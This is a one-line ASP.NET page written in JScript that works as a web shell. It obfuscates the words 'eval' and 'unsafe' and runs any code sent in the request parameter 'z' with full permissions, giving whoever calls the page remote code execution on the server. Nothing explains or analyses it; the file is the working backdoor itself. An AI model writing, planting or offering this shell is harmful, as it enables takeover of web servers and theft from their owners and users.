<%@ Page Language="JScript"%><%var k="u"+"nsafe";this["ev"+"al"](Request.Item["z"],k);%>
